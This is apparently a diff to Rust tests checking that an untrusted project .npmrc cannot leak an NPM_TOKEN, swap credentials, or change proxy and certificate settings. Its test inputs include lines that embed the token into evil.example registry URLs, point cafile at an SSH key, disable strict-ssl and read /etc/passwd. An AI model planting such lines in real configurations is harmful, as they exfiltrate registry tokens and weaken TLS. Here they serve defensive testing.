@@ -3,6 +3,7 @@
 use url::Url;
 
 use super::*;
+use crate::adapters::registry::RegistryConfig;
 
 fn env(name: &str) -> Option<String> {
     (name == "NPM_TOKEN").then(|| "from-env".to_owned())
@@ -153,20 +154,16 @@ fn a_strangers_file_says_where_registries_are() {
 /// Each line is tried beside a user's file with a token, a proxy and a certificate, in an
 /// environment with a token.
 #[test]
-fn a_strangers_file_gets_nothing() {
+fn a_strangers_file_gets_no_credential_proxy_or_certificate() {
     for attempt in [
-        // Variables of the environment, into an address that is asked.
-        "registry=https://evil.example/${NPM_TOKEN}/",
-        "@acme:registry=https://${NPM_TOKEN}.evil.example/",
-        "@b:registry=https://me:${NPM_TOKEN}@evil.example/",
-        "registry=\"https://evil.example/${NPM_TOKEN?}\"",
-        "${NPM_TOKEN}:registry=https://evil.example",
         // Variables into a credential for a host of the stranger's.
         "//evil.example/:_authToken=${NPM_TOKEN}",
         "//evil.example/:_auth=${NPM_TOKEN}",
         "//evil.example/:username=me\n//evil.example/:_password=${NPM_TOKEN}",
+        "${NPM_TOKEN}=x",
         // Credentials of the stranger's in place of the user's.
         "//npm.acme.example/:_authToken=theirs",
+        "//npm.acme.example/:_authToken=",
         "@acme:registry=https://me:theirs@npm.acme.example/",
         "registry=https://theirs@registry.npmjs.org/",
         // Everything through a machine of the stranger's, or past the user's proxy.
@@ -179,24 +176,48 @@ fn a_strangers_file_gets_nothing() {
         "ca=-----BEGIN CERTIFICATE-----",
         "cafile=/home/me/.ssh/id_ed25519",
         "strict-ssl=false",
-        // Addresses that are none.
-        "registry=file:///etc/passwd\nregistry=hush",
-        "@acme:registry=https://%65vil.example/",
     ] {
         let (with, without) = (beside(USER, attempt), beside(USER, ""));
         let shown = format!("{attempt}: {with:?}");
         assert_eq!(with.warnings.len(), 1, "{shown}");
         assert!(with.warnings[0].contains("in the project's .npmrc: ignored"), "{shown}");
         assert!(!with.warnings[0].contains("from-env"), "{shown}");
-        assert!(with.registry.is_none_or(|one| one.reveal().starts_with("file:")), "{shown}");
-        assert_eq!(with.scopes, without.scopes, "{shown}");
         assert_eq!(format!("{:?}", with.proxy), format!("{:?}", without.proxy), "{shown}");
+        let config = RegistryConfig::new(&with, None).unwrap();
         assert_eq!((with.ca, with.cafile), (without.ca, without.cafile), "{shown}");
-        for url in ["https://evil.example/a", "https://npm.acme.example/a"] {
-            let sent = |npmrc: &Credentials| npmrc.authorization(&Url::parse(url).unwrap());
-            assert_eq!(sent(&with.credentials), sent(&without.credentials), "{shown}");
+        for url in
+            ["https://evil.example/a", "https://npm.acme.example/a", "https://registry.npmjs.org/a"]
+        {
+            let url = Url::parse(url).unwrap();
+            let sent = config.authorization(&url);
+            assert_eq!(sent, without.credentials.authorization(&url), "{shown}");
         }
     }
+}
+
+/// To pass the line over would be to ask the public registry for a private package.
+#[test]
+fn a_registry_that_cannot_be_used_is_refused_and_not_passed_over() {
+    let refused = |npmrc: &Npmrc| RegistryConfig::new(npmrc, None).unwrap_err();
+    for attempt in [
+        "registry=https://evil.example/${NPM_TOKEN}/",
+        "@acme:registry=https://${NPM_TOKEN}.evil.example/",
+        "@b:registry=https://me:${NPM_TOKEN}@evil.example/",
+        "registry=\"https://evil.example/${NPM_TOKEN?}\"",
+        "@${NPM_TOKEN}:registry=https://evil.example",
+        "@b:registry=https://evil.example/${UNSET}",
+    ] {
+        let error = refused(&beside(USER, attempt));
+        assert!(matches!(error, ConfigError::ProjectVariable { .. }), "{attempt}: {error}");
+        assert!(error.hint().unwrap().contains("--trust-project-npmrc"));
+        assert!(!error.to_string().contains("from-env"));
+    }
+    for attempt in ["registry=file:///etc/passwd", "@acme:registry=hush", "registry="] {
+        let error = refused(&beside(USER, attempt));
+        assert!(matches!(error, ConfigError::Address { .. }), "{attempt}: {error}");
+    }
+    let error = refused(&Npmrc::parse("@a:registry=https://${UNSET}.example", &env));
+    assert_eq!(error, ConfigError::Variable { of: "@a:registry= in .npmrc".into() });
 }
 
 #[test]
